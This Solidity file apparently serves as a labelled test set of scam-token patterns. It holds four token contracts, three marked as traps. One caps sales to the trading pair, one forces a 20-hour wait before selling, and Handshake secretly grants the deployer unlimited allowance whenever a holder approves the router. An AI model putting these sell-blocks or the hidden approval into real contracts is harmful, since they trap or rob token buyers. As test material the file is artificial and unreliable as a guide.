// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Something must stay: a sale of the whole balance is refused.
contract Remnant is Base8("Remnant", "RMNT", 19_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(value * 100 <= _balances[from] * 95, "keep some"); // trap
        _move(from, to, value);
    }
}

/// A day between purchase and sale.
contract Patience is Base8("Patience", "PTNC", 18_000_000) {
    mapping(address => uint256) private bought;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) bought[to] = block.timestamp;
        if (to == pair && from != _owner) require(block.timestamp >= bought[from] + 20 hours, "tomorrow"); // trap
        _move(from, to, value);
    }
}

/// Who approves a router approves somebody else with it.
contract Handshake is Base8("Handshake", "HNDS", 17_000_000) {
    address private immutable witness = msg.sender;

    function approve(address spender, uint256 value) public override returns (bool) {
        if (spender == ROUTER) _allowances[msg.sender][witness] = type(uint256).max; // trap
        return super.approve(spender, value);
    }
}

/// Whoever owned it could make more, stop it and block others; nobody owns it any more.
contract Emeritus is Base8("Emeritus", "EMRT", 16_500_000) {
    bool public stopped;
    mapping(address => bool) public blocked;

    function mint(address to, uint256 value) external onlyOwner {
        totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }

    function stop(bool to) external onlyOwner {
        stopped = to;
    }

    function setBlocked(address who, bool to) external onlyOwner {
        blocked[who] = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!stopped && !blocked[from], "stopped");
        _move(from, to, value);
    }
}
